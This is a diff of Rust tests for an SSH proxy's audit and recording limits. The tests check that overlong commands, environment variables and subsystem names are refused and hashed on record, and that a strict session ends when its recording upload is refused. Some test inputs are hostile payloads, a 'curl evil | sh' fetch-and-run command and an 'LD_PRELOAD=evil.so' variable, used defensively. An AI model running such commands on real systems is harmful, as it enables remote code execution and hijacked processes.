@@ -8,10 +8,15 @@ use protocols::{
 use serde_json::Value;
 use tempfile::TempDir;
 use tokio::time::{Duration, timeout};
+use tokio_util::sync::CancellationToken;
 
 use super::*;
-use crate::audit::{
-    Audit, AuditSpool, Ending, Parameters, Started, Subject, SubjectTarget, Trail, on_disk, trail::TrailTap,
+use crate::{
+    audit::{
+        Audit, AuditSpool, Ending, Parameters, Started, Subject, SubjectTarget, Trail, on_disk,
+        trail::TrailTap,
+    },
+    recording::{Acknowledged, Couriers, RecordingUplink, UploadError},
 };
 
 const BOUND: u64 = 16 * 1024 * 1024;
@@ -23,7 +28,24 @@ struct Stage {
     tap: TrailTap,
     audit: Audit,
     sid: Uuid,
+    couriers: Option<Couriers>,
     _spool: AuditSpool,
+}
+
+/// An authd that takes no recording.
+struct Refusing;
+
+impl RecordingUplink for Refusing {
+    async fn upload(
+        &self,
+        _: Uuid,
+        _: &Of,
+        _: u64,
+        _: Vec<u8>,
+        _: bool,
+    ) -> Result<Acknowledged, UploadError> {
+        Err(UploadError::Refused("never".into()))
+    }
 }
 
 impl Stage {
@@ -31,7 +53,7 @@ impl Stage {
         let data = tempfile::tempdir().unwrap();
         let (audit, spool) =
             Audit::open(data.path(), BOUND, IntCounter::new("failed", "failed").unwrap()).unwrap();
-        let (recordings, _couriers) = Recordings::open(data.path(), BOUND).unwrap();
+        let (recordings, couriers) = Recordings::open(data.path(), BOUND).unwrap();
         let sid = Uuid::new_v4();
         let target = SubjectTarget::Node {
             server_hostname: "prod-web".to_owned(),
@@ -55,7 +77,7 @@ impl Stage {
         let (user, login, target_name) = ("jerry".to_owned(), "root".to_owned(), "prod-web".to_owned());
         let of = Of { user, login, target_name, started: 0 };
         let tap = trail.tap(Some(Recorded { recordings, of, sid, mode }));
-        Self { data, trail, tap, audit, sid, _spool: spool }
+        Self { data, trail, tap, audit, sid, couriers: Some(couriers), _spool: spool }
     }
 
     async fn sees(
@@ -109,7 +131,8 @@ async fn a_variable_that_has_no_room_on_record_does_not_pass() {
     stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
     for number in 0..MAX_VARIABLES {
         let name = format!("LC_{number}");
-        stage.forwards(0, SshAction::Env { name: name.as_bytes(), value: &[b'x'; 2_000] }).await;
+        let length = if number == 0 { 2_000 } else { 20 };
+        stage.forwards(0, SshAction::Env { name: name.as_bytes(), value: &vec![b'x'; length] }).await;
     }
     let last = SshAction::Env { name: b"LD_PRELOAD", value: b"evil.so" };
     let Ok(Verdict::Refuse(_)) = stage.sees(0, true, last).await else { panic!("it passed") };
@@ -120,6 +143,70 @@ async fn a_variable_that_has_no_room_on_record_does_not_pass() {
     let ran = events.iter().find(|event| event["event"] == "exec").unwrap();
     let value = ran["environment"]["LC_0"].as_str().unwrap_or_else(|| panic!("{ran}"));
     assert_eq!((value.len(), value.ends_with("x…")), (MAX_VARIABLE_BYTES + "…".len(), true));
+}
+
+#[tokio::test]
+async fn a_command_is_on_record_whole_or_does_not_run_and_then_its_hash_is() {
+    let padded = |length| [&b": '"[..], &vec![b'x'; length], b"'; curl evil | sh"].concat();
+    let longest_of_linux = vec![b'x'; 128 * 1024 - 1];
+    for whole in [padded(70_000), longest_of_linux] {
+        let mut stage = Stage::new(RecordingMode::BestEffort).await;
+        stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
+        stage.forwards(0, SshAction::Exec { command: &whole, file_copy: false }).await;
+        let (events, _data) = stage.ends().await;
+        assert_eq!(events[1]["command"].as_str().unwrap().as_bytes(), whole);
+        assert!(events[1].get("command_cut").is_none());
+    }
+    let no_text = [&[0xff; 70_000][..], b"; curl evil | sh"].concat();
+    for long in [padded(140_000), no_text, vec![1; 70_000], vec![b'"'; 100_000]] {
+        let mut stage = Stage::new(RecordingMode::BestEffort).await;
+        stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
+        let asked = SshAction::Exec { command: &long, file_copy: false };
+        let Ok(Verdict::Refuse(_)) = stage.sees(0, true, asked).await else { panic!("it ran") };
+        // The session goes on, and the channel is no work.
+        stage.forwards(0, SshAction::Exec { command: b"id", file_copy: false }).await;
+        let (events, _data) = stage.ends().await;
+        let refused = &events[1];
+        assert_eq!((&refused["code"], &refused["success"]), (&"T3002E".into(), &false.into()));
+        assert_eq!(refused["error"], "too long to be put on record whole");
+        assert_eq!((&refused["command_cut"], &refused["command_bytes"]), (&true.into(), &long.len().into()));
+        let sha256 = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &long);
+        assert_eq!(refused["command_sha256"], hex::encode(sha256.as_ref()));
+        assert_eq!(events[2]["code"], "T3002I");
+    }
+}
+
+#[tokio::test]
+async fn the_longest_command_in_the_longest_environment_is_an_event_that_fits() {
+    let mut stage = Stage::new(RecordingMode::BestEffort).await;
+    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
+    let size = TerminalSize { columns: 91, rows: 33 };
+    stage.forwards(0, SshAction::Pty { term: &[1; 8_000], size }).await;
+    let (mut passed, mut number) = (0, 0);
+    while passed == number {
+        let name = format!("LC_{number}");
+        // Each is six bytes of JSON.
+        let variable = SshAction::Env { name: name.as_bytes(), value: &[1; 1_000] };
+        passed += usize::from(stage.sees(0, true, variable).await == Ok(Verdict::Forward));
+        number += 1;
+    }
+    assert!((4..MAX_VARIABLES).contains(&passed), "bounded in bytes: {passed}");
+    stage.forwards(0, SshAction::Exec { command: &[b'x'; 136 * 1024], file_copy: false }).await;
+    let (events, _data) = stage.ends().await;
+    let ran = events.iter().find(|event| event["event"] == "exec").unwrap();
+    assert_eq!(ran["environment"].as_object().unwrap().len(), passed);
+    let refused = events.iter().find(|event| event["event"] == "session.request.refused").unwrap();
+    assert_eq!((&refused["request"], &refused["name"]), (&"env".into(), &format!("LC_{passed}").into()));
+}
+
+#[tokio::test]
+async fn a_subsystem_whose_name_is_not_on_record_whole_does_not_start() {
+    let mut stage = Stage::new(RecordingMode::BestEffort).await;
+    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
+    let long = SshAction::Subsystem { name: &[b'x'; 5_000], file_copy: false };
+    let Ok(Verdict::Refuse(_)) = stage.sees(0, true, long).await else { panic!("it started") };
+    let (events, _data) = stage.ends().await;
+    assert_eq!((&events[1]["code"], &events[1]["request"]), (&"TTS24W".into(), &"subsystem".into()));
 }
 
 #[tokio::test]
@@ -209,6 +296,27 @@ async fn a_terminal_that_must_be_recorded_and_cannot_be_ends_the_session_before_
     assert_eq!(stage.trail.stopped(), Some("recording_failed"));
     let (events, _data) = stage.ends().await;
     assert_eq!(events[2]["record_session"], "strict");
+}
+
+#[tokio::test]
+async fn a_terminal_that_must_be_recorded_ends_when_authd_refuses_its_recording_for_good() {
+    let mut stage = Stage::new(RecordingMode::Strict).await;
+    let couriers = stage.couriers.take().unwrap();
+    tokio::spawn(couriers.run(Refusing, CancellationToken::new()));
+    assert_eq!(stage.terminal(0).await, Ok(Verdict::Forward));
+    let ended = timeout(Duration::from_secs(20), async {
+        loop {
+            match stage.sees(0, true, SshAction::Output { bytes: b"$ " }).await {
+                Ok(Verdict::Forward) => tokio::time::sleep(Duration::from_millis(5)).await,
+                ended => break ended,
+            }
+        }
+    });
+    let Ok(Ok(Verdict::End(_))) = ended.await else { panic!("it goes on") };
+    assert_eq!(stage.trail.stopped(), Some("recording_failed"));
+    let (events, _data) = stage.ends().await;
+    let unrecorded = events.iter().find(|event| event["event"] == "session.unrecorded").unwrap();
+    assert_eq!(unrecorded["reason"], "authd refuses the recording for good");
 }
 
 #[tokio::test]
